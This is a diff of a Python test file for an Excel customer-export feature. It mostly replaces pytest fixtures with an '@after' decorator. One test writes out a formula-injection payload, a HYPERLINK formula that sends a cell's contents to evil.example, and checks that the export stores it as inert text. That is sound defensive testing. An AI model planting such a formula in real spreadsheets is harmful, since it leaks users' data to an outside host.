@@ -8,7 +8,6 @@ from functools import partial
 from io import BytesIO
 from typing import Any
 
-import pytest
 from openpyxl import Workbook, load_workbook
 from sqlalchemy import Connection, select
 
@@ -17,13 +16,12 @@ from notifications.jobs.export_customers import export_customers
 from notifications.jobs.working import Runner
 from storage.files.store import FileStore
 from storage.tables.jobs import jobs
-from tests.cast import Person, Scene
+from tests.cast import Person, Scene, after
 from tests.scenarios.protection.test_pool import opens_pool
 
 STAR, LIGHT = "深圳市星河联创电子有限公司", "佛山市启明电机有限公司"
 
 
-@pytest.fixture
 async def with_project(li: Person, chen: Person) -> None:
     """李明 holds 星河; its first report told of a project in 研发."""
     await li.reports(STAR)
@@ -34,9 +32,8 @@ async def with_project(li: Person, chen: Person) -> None:
     await li.goes_home()
 
 
-async def test_what_one_sees_comes_as_an_excel_file(
-    with_project: None, scene: Scene, li: Person, zhou: Person, wang: Person
-) -> None:
+@after(with_project)
+async def test_what_one_sees_comes_as_an_excel_file(scene: Scene, li: Person, zhou: Person, wang: Person) -> None:
     await wang.taps("我的客户")
     wang.sees_not("[导出 Excel]")
     await zhou.taps("我的客户")
@@ -53,8 +50,9 @@ async def test_what_one_sees_comes_as_an_excel_file(
     assert items.max_row == 2
 
 
+@after(with_project)
 async def test_an_export_tells_which_report_it_was_whose_manager_how_late_and_what_was_said(
-    with_project: None, scene: Scene, li: Person, chen: Person
+    scene: Scene, li: Person, chen: Person
 ) -> None:
     approved = scene.now.date()
     await chen.comments("星河", "请补充竞品价格", asks=True)
@@ -72,8 +70,9 @@ async def test_an_export_tells_which_report_it_was_whose_manager_how_late_and_wh
     assert (customers.freeze_panes, customers.auto_filter.ref) == ("A2", "A1:T2")
 
 
+@after(with_project)
 async def test_a_new_holder_reads_neither_the_former_report_nor_what_was_said_to_him(
-    with_project: None, scene: Scene, li: Person, wang: Person, chen: Person
+    scene: Scene, li: Person, wang: Person, chen: Person
 ) -> None:
     await chen.comments("星河", "请补充竞品价格")
     await li.goes_home()
@@ -98,9 +97,8 @@ async def test_a_new_holder_reads_neither_the_former_report_nor_what_was_said_to
     assert book["点评"].max_row == 1
 
 
-async def test_an_export_holds_what_the_list_was_narrowed_to(
-    with_project: None, scene: Scene, li: Person, chen: Person
-) -> None:
+@after(with_project)
+async def test_an_export_holds_what_the_list_was_narrowed_to(scene: Scene, li: Person, chen: Person) -> None:
     await li.reports(LIGHT)
     await chen.approves(LIGHT)
     await li.goes_home()
@@ -112,9 +110,8 @@ async def test_an_export_holds_what_the_list_was_narrowed_to(
     assert projects.max_row == 1
 
 
-async def test_what_somebody_wrote_becomes_no_formula_in_an_export(
-    with_project: None, scene: Scene, li: Person
-) -> None:
+@after(with_project)
+async def test_what_somebody_wrote_becomes_no_formula_in_an_export(scene: Scene, li: Person) -> None:
     await li.follows_up("星河", '=HYPERLINK("http://evil.example/?"&A1,"点我")')
     await li.finishes()
     await li.taps("提交")
@@ -126,9 +123,8 @@ async def test_what_somebody_wrote_becomes_no_formula_in_an_export(
     assert (cell.value, cell.data_type) == ('=HYPERLINK("http://evil.example/?"&A1,"点我")', "s")
 
 
-async def test_a_large_export_comes_in_several_files_of_whole_customers(
-    with_project: None, scene: Scene, li: Person, chen: Person
-) -> None:
+@after(with_project)
+async def test_a_large_export_comes_in_several_files_of_whole_customers(scene: Scene, li: Person, chen: Person) -> None:
     await li.reports(LIGHT)
     await chen.approves(LIGHT)
     workers = scene.bot.workers
